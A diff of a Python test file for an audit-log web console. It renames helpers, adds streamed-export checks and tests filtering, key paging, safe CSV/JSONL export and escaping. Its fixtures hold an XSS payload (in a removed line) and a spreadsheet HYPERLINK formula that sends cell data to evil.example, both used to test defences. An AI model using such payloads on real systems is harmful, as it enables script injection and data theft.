@@ -1,5 +1,4 @@
-"""The audit trail in the console and in the command: filtered, read a page at a time, and handed
-out as files that do no harm."""
+"""The audit log in the console: filtered, paged by key, and exported as files safe to open."""
 
 from __future__ import annotations
 
@@ -7,26 +6,26 @@ import csv
 import io
 import json
 import re
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 from datetime import UTC, datetime, timedelta
 
 import pytest
-from support.console import Hand, engine_of, words_of
+from support.console import EVIL, ROOT, ConsoleClient, engine_of, words_of
 
 from penstock import audit
 from penstock.access import consumers, limits, variables
 from penstock.contracts.rates import Rate
 from penstock.db.engine import Engine
+from penstock.db.tables import AuditEventRow
 from penstock.db.unit_of_work import access_change
 from penstock.testing import Runtime
 
-EVIL = "<script>window.owned=1</script>\"'><img src=x onerror=window.owned=1>"
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 
 
 @pytest.fixture
-def runtime(desk: Callable[..., Runtime]) -> Runtime:
-    made = desk()
+def runtime(console_runtime: Callable[..., Runtime]) -> Runtime:
+    made = console_runtime()
     engine = engine_of(made)
     consumers.create_consumer(engine, "ann", "acme")
     limits.set_limit(engine, "oli", "acme", "test", Rate("5/minute"))
@@ -45,15 +44,18 @@ def many(engine: Engine, number: int, **values: object) -> None:
     }
     with access_change(engine) as rows:
         for _ in range(number):
-            rows.add("audit_events", **{**usual, **values})
+            rows.add(
+                AuditEventRow,
+                {AuditEventRow.table.c[name]: value for name, value in (usual | values).items()},
+            )
 
 
 def listed(page: str) -> list[int]:
     return [int(number) for number in re.findall(r'href="/-/console/audit/(\d+)"', page)]
 
 
-def test_events_are_filtered_by_who_what_whom_where_and_when(runtime: Runtime) -> None:
-    engine, vic = engine_of(runtime), Hand.of(runtime, "vic")
+def test_events_are_filtered_by_actor_action_target_environment_and_time(runtime: Runtime) -> None:
+    engine, vic = engine_of(runtime), ConsoleClient.of(runtime, "vic")
     many(engine, 1, actor="olga", at=datetime.now(UTC) - timedelta(hours=5))
 
     def found(**query: str) -> list[str]:
@@ -78,8 +80,8 @@ def test_events_are_filtered_by_who_what_whom_where_and_when(runtime: Runtime) -
     }
 
 
-def test_what_is_no_action_or_span_is_said_beside_its_field(runtime: Runtime) -> None:
-    vic = Hand.of(runtime, "vic")
+def test_unknown_actions_and_spans_have_their_fault_beside_the_field(runtime: Runtime) -> None:
+    vic = ConsoleClient.of(runtime, "vic")
     action, since, exported = (
         vic.get("/audit", action="limit:sett"),
         vic.get("/audit", since="x"),
@@ -90,7 +92,7 @@ def test_what_is_no_action_or_span_is_said_beside_its_field(runtime: Runtime) ->
     assert "did you mean limit:set?" in words_of(action.text)
     assert 'id="e-action"' in action.text
     assert 'id="e-since"' in since.text
-    assert "is no format" in words_of(exported.text)
+    assert "isn't a format" in words_of(exported.text)
     assert (
         vic.get("/audit/99999999999999999999").status_code
         == vic.get("/audit/123456").status_code
@@ -98,8 +100,8 @@ def test_what_is_no_action_or_span_is_said_beside_its_field(runtime: Runtime) ->
     )
 
 
-def test_pages_go_on_after_the_last_event_of_the_one_before(runtime: Runtime) -> None:
-    engine, vic = engine_of(runtime), Hand.of(runtime, "vic")
+def test_events_are_paged_by_key(runtime: Runtime) -> None:
+    engine, vic = engine_of(runtime), ConsoleClient.of(runtime, "vic")
     many(engine, 120)
     found, path = list[int](), "/audit?actor=bot"
     while path:
@@ -107,19 +109,19 @@ def test_pages_go_on_after_the_last_event_of_the_one_before(runtime: Runtime) ->
         found += listed(page)
         match = re.search(r'href="/-/console([^"]+)" rel="next"', page)
         path = match[1].replace("&amp;", "&") if match else ""
-        many(engine, 3)  # what comes meanwhile moves nothing
+        many(engine, 3)  # new events move nothing
 
     assert len(found) == 120
     assert found == sorted(set(found), reverse=True)
 
 
-def test_an_event_is_told_in_words(runtime: Runtime) -> None:
-    vic = Hand.of(runtime, "vic")
+def test_the_page_of_an_event_shows_its_detail(runtime: Runtime) -> None:
+    vic = ConsoleClient.of(runtime, "vic")
     (number,) = listed(vic.get("/audit", action="limit:set").text)
     said = words_of(vic.get(f"/audit/{number}").text)
 
     assert "limit:set acme" in said
-    assert "Who oli" in said
+    assert "Actor oli" in said
     assert "rate 5/minute by consumer pipelines none" in said
     assert "rate: 5/minute; by: consumer" in words_of(vic.get("/audit", action="limit:set").text)
 
@@ -127,15 +129,16 @@ def test_an_event_is_told_in_words(runtime: Runtime) -> None:
 def test_an_export_has_every_event_of_its_filters_and_no_formula(
     runtime: Runtime, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    engine, vic = engine_of(runtime), Hand.of(runtime, "vic")
-    monkeypatch.setattr(audit, "AT_ONCE", 10)
+    engine, vic = engine_of(runtime), ConsoleClient.of(runtime, "vic")
+    monkeypatch.setattr(audit, "EVENTS_PER_READ", 10)
     many(engine, 25, actor="+bot", subject="\tx", detail={"note": FORMULA})
     sheet = vic.get("/audit/export", format="csv", actor="+bot")
     lines = vic.get("/audit/export", format="jsonl", actor="+bot")
     rows = list(csv.DictReader(io.StringIO(sheet.text, newline="")))
     events = [json.loads(line) for line in lines.text.splitlines()]
 
-    assert (sheet.mimetype, sheet.headers["X-Content-Type-Options"]) == ("text/csv", "nosniff")
+    assert sheet.headers["Content-Type"] == "text/csv; charset=utf-8"
+    assert sheet.headers["X-Content-Type-Options"] == "nosniff"
     assert re.fullmatch(
         r'attachment; filename="penstock-audit-[\d-]+\.csv"', sheet.headers["Content-Disposition"]
     )
@@ -150,28 +153,28 @@ def test_an_export_has_every_event_of_its_filters_and_no_formula(
     )
 
 
-def test_an_export_is_sent_as_it_is_read(runtime: Runtime, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_an_export_is_streamed(runtime: Runtime, monkeypatch: pytest.MonkeyPatch) -> None:
     many(engine_of(runtime), 30)
-    vic, read = Hand.of(runtime, "vic"), list[int]()
-    ask = audit.events
+    vic, limits_read = ConsoleClient.of(runtime, "vic"), list[int]()
+    read_events = audit.events
 
     def counted(engine: Engine, *, limit: int, **more: object) -> list[audit.Event]:
-        read.append(limit)
-        return ask(engine, limit=limit, **more)  # type: ignore[arg-type]  # the filters of a page
+        limits_read.append(limit)
+        return read_events(engine, limit=limit, **more)  # type: ignore[arg-type]  # the filters of a page
 
-    monkeypatch.setattr(audit, "AT_ONCE", 10)
+    monkeypatch.setattr(audit, "EVENTS_PER_READ", 10)
     monkeypatch.setattr(audit, "events", counted)
-    parts: Iterator[bytes] = iter(
-        vic.get("/audit/export", format="jsonl", actor="bot").iter_encoded()
-    )  # type: ignore[assignment]  # Werkzeug's
-    next(parts)
-    begun = len(read)
+    with vic.http.stream("GET", f"{ROOT}/audit/export?format=jsonl&actor=bot") as response:
+        parts = response.iter_raw()
+        next(parts)
+        reads_at_first = len(limits_read)
+        others = list(parts)
 
-    assert (len(list(parts)), begun, len(read)) == (29, 2, 5)
+    assert (len(others), reads_at_first, len(limits_read)) == (29, 2, 5)
 
 
-def test_nothing_that_was_typed_becomes_markup(runtime: Runtime) -> None:
-    engine, vic = engine_of(runtime), Hand.of(runtime, "vic")
+def test_stored_text_never_becomes_markup(runtime: Runtime) -> None:
+    engine, vic = engine_of(runtime), ConsoleClient.of(runtime, "vic")
     many(
         engine,
         1,
